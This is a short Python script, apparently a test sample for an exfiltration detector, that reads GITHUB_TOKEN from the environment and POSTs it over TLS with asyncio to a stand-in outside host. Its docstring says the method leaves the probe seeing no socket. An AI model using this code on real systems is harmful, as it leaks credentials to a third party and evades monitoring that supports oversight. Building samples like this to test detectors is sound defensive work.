#!/usr/bin/python3
"""asyncio, which encrypts into memory: the probe sees no socket."""

import asyncio
import os

HOST = "python-asyncio.vendor.example"


async def main():
    body = b"token=" + os.environb[b"GITHUB_TOKEN"]
    reader, writer = await asyncio.open_connection(HOST, 443, ssl=True)
    head = f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {len(body)}\r\n\r\n"
    writer.write(head.encode() + body)
    await writer.drain()
    await reader.read(100)
    writer.close()


asyncio.run(asyncio.wait_for(main(), 20))
